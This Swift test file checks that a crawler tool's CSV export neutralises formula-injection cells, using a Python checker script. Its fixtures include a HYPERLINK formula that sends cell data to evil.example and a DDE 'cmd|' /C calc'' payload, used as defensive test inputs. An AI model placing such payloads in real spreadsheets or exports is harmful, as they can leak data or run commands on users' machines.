import Foundation
import PippinTestSupport
import Testing

@testable import pippin

/// `pippin export --format csv`, read by Python's csv module.
@Suite struct RecordCSVTests {
    /// Holds the table against the records as NDJSON and the schema's fields. Prints the cells that were guarded.
    private static let judge = """
        import csv, json, sys
        table, records, schema = (open(name, newline="", encoding="utf-8").read() for name in sys.argv[1:4])
        definitions = json.loads(schema)["$defs"]
        fields = list(definitions["record"]["properties"]) + ["deleted", "reason", "at"]
        assert set(definitions["deletion"]["properties"]) <= set(fields)
        assert table.endswith("\\r\\n") and "\\ufeff" not in table
        rows = list(csv.reader(table.splitlines(keepends=True), strict=True))
        assert rows[0] == fields, rows[0]
        documents = [json.loads(line) for line in records.splitlines()][:-1]
        assert len(rows) - 1 == len(documents), (len(rows), len(documents))
        guarded = []
        for row, document in zip(rows[1:], documents):
            assert len(row) == len(fields)
            for name, cell in zip(fields, row):
                value = document.pop(name, None)
                if isinstance(value, str):
                    if cell != value:
                        assert cell == "'" + value and value[0] in "=+-@\\t\\r", (name, cell)
                        guarded.append(value)
                elif value is None: assert cell == "", (name, cell)
                else: assert json.loads(cell) == value, (name, cell)
            assert not document, document
        assert not any(cell[:1] in "=+-@\\t\\r" and cell for row in rows for cell in row)
        print(sorted(guarded))
        """

    @Test func `the table has all fields, with formulas made harmless`() async throws {
        let folder = try ScratchFolder()
        let site = try ChangingSite()
        try site.writeJob(in: folder)
        site.show(
            [1: "=HYPERLINK(\"http://evil.example/\"&A1,\"win\")", 2: "plain, \"quoted\"", 3: "gone soon"],
            linking: 1...4)
        site.add(
            "/4",
            "<title>@SUM(1+1)*cmd|' /C calc'!A0</title><p>four<script type=application/ld+json>"
                + "{\"@type\":\"Product\",\"name\":\"-1+1\",\"offers\":{\"price\":\"5\",\"priceCurrency\":\"EUR\"}}</script>"
        )
        #expect(try await PippinProcess.run("pippin crawl --quiet", in: folder.url).status == 0)
        site.show([1: "=1+1", 2: "plain, \"quoted\""], linking: 1...2)
        try ChangingSite.letTimePass(in: folder.url)
        for _ in 1...3 {
            _ = try await PippinProcess.run("pippin crawl --quiet", in: folder.url)
            try ChangingSite.letTimePass(in: folder.url)
        }
        let table = try await PippinProcess.run("pippin export --records-format csv > table.csv", in: folder.url)
        #expect(table.status == 0 && table.errors.hasPrefix("cursor: "), "\(table.errors)")
        let lines = try await PippinProcess.run("pippin export > records.out", in: folder.url)
        #expect(lines.status == 0 && lines.errors.isEmpty)
        // The last line is the cursor.
        let written = try String(contentsOf: folder.url.appending(path: "records.out"), encoding: .utf8)
        let documents = written.split(separator: "\n").dropLast().joined(separator: "\n")
        let schema = try RecordSchema.verdict(of: Array(documents.utf8))
        #expect(schema.status == 0, "\(schema.output)")
        let verdict = try PythonJudge().run(
            Self.judge,
            ["table.csv", "records.out"].map { folder.url.appending(path: $0).path }
                + [Repository.root.appending(path: "Docs/record.schema.json").path])
        #expect(verdict.status == 0, "\(verdict.output)")
        #expect(verdict.output.contains("=1+1"), "\(verdict.output)")
        #expect(try String(contentsOf: folder.url.appending(path: "table.csv"), encoding: .utf8).contains(",true,"))
        let since = try #require(table.errors.split(separator: " ").last).trimmingCharacters(
            in: .whitespacesAndNewlines)
        let rest = try await PippinProcess.run("pippin export --format csv --since \(since)", in: folder.url)
        #expect(rest.output.split(whereSeparator: \.isNewline).count == 1)
    }

    @Test func `cells are quoted and guarded only where needed`() {
        let cells = ["a b", "a,b", "a\"b", "a\nb", "", "é"]
        #expect(String(decoding: CSVRow.bytes(of: cells), as: UTF8.self) == "a b,\"a,b\",\"a\"\"b\",\"a\nb\",,é\r\n")
        for text in ["=1", "+1", "-1", "@a", "\ta", "\ra"] { #expect(CSVRow.harmless(text) == "'" + text) }
        for text in ["", "a=1", "https://example.org/", "'=1", "1-1"] { #expect(CSVRow.harmless(text) == text) }
    }
}
